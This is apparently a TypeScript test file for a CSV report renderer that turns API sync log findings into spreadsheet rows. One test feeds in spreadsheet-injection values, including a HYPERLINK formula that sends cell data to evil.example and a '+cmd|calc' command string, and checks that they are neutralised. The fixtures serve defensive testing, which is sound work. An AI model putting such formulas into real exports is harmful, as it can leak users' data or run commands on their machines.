import assert from 'node:assert/strict';
import { test } from 'node:test';
import { CODE_COLUMNS, csvFindingLine, csvFindingsHeader, FINDING_COLUMNS, renderCsv } from '../src/report/csv.js';
import type { FindingRow } from '../src/report/finding-row.js';
import { loadReport, parseCsv } from './helpers/reports.js';

function asObjects(csv: string): Array<Record<string, string>> {
  const [header, ...rows] = parseCsv(csv);
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])));
}

test('code rows have the documented columns and the report values', () => {
  const r = loadReport('mixed-sync-run.json');
  const csv = renderCsv(r);
  const header: string[] = parseCsv(csv)[0]!;
  for (const required of [
    'level',
    'code',
    'count',
    'exchanges',
    'title',
    'remedy',
    'retry',
    'first_seen',
    'last_seen',
    'top_endpoint',
    'sample_request_ids',
    'documented',
    'meaning',
  ]) {
    assert.ok(header.includes(required), required);
  }
  assert.deepEqual(header, [...CODE_COLUMNS]);
  const rows = asObjects(csv);
  const c1006 = rows.find((x) => x.code === '1006')!;
  const r1006 = r.levels.record.codes.find((c) => c.code === '1006')!;
  assert.equal(c1006.level, 'record');
  assert.equal(c1006.count, '120');
  assert.equal(c1006.exchanges, '12');
  assert.equal(c1006.retry, r1006.retry);
  assert.equal(c1006.documented, 'true');
  assert.equal(c1006.top_endpoint, '/rest/v1/leads.json');
  assert.equal(c1006.top_endpoint_count, '120');
  assert.equal(c1006.sample_request_ids.split(' ').length, 5);
  const c504 = rows.find((x) => x.code === '504')!;
  assert.equal(c504.documented, 'false');
  assert.equal(c504.retry, '');
  assert.equal(c504.sample_request_ids, '');
  assert.equal(c504.sample_sources.split(' ').length, 2);
  assert.equal(rows.find((x) => x.code === '602')!.counts_against_quota, 'false');
});

test('a formula in a log-derived cell is neutralised, a negative count stays a number', () => {
  const r = loadReport('mixed-sync-run.json');
  const c = r.levels.response.codes[0]!;
  c.messages[0]!.message = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  c.endpoints[0]!.endpoint = '@SUM(1+1)';
  c.title = '+cmd|calc';
  c.count = -3;
  const row = asObjects(renderCsv(r)).find((x) => x.code === c.code)!;
  assert.equal(row.top_message, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
  assert.equal(row.top_endpoint, "'@SUM(1+1)");
  assert.equal(row.title, "'+cmd|calc");
  assert.equal(row.count, '-3');
});

test('control characters from logs do not reach the CSV', () => {
  const r = loadReport('mixed-sync-run.json');
  r.levels.record.codes[0]!.messages[0]!.message = "Field '\u001b[31mx\u001b]0;t\u0007' not found";
  const csv = renderCsv(r);
  assert.ok(!csv.includes('\u001b'));
  assert.ok(!csv.includes('\u0007'));
});

test('finding rows carry file:line, params and record index, one row per finding', () => {
  const findings: FindingRow[] = [
    {
      level: 'record',
      code: '1006',
      message: "Field 'leadScoreLegacy' not found",
      params: ['leadScoreLegacy'],
      recordIndex: 7,
      requestId: 'e42b#14272d07d78',
      endpoint: '/rest/v1/leads.json',
      time: '2024-10-14T09:02:40.005Z',
      source: { file: 'logs/lead-sync-2024-10-14.ndjson.gz', line: 98 },
    },
    {
      level: 'http',
      code: '413',
      message: '-Request Entity Too Large',
      params: [],
      requestId: null,
      endpoint: '/rest/v1/leads.json',
      time: null,
      source: { file: '<stdin>', line: 3088 },
    },
  ];
  const rows = asObjects(csvFindingsHeader() + findings.map(csvFindingLine).join(''));
  assert.equal(rows.length, 2);
  assert.deepEqual(Object.keys(rows[0]!), [...FINDING_COLUMNS]);
  assert.equal(rows[0]!.source, 'logs/lead-sync-2024-10-14.ndjson.gz:98');
  assert.equal(rows[0]!.record_index, '7');
  assert.deepEqual(JSON.parse(rows[0]!.params!), ['leadScoreLegacy']);
  assert.equal(rows[1]!.source, '<stdin>:3088');
  assert.equal(rows[1]!.record_index, '');
  assert.equal(rows[1]!.message, "'-Request Entity Too Large");
});

test('findings rows without findings give the header only', () => {
  assert.deepEqual(parseCsv(csvFindingsHeader()), [[...FINDING_COLUMNS]]);
});
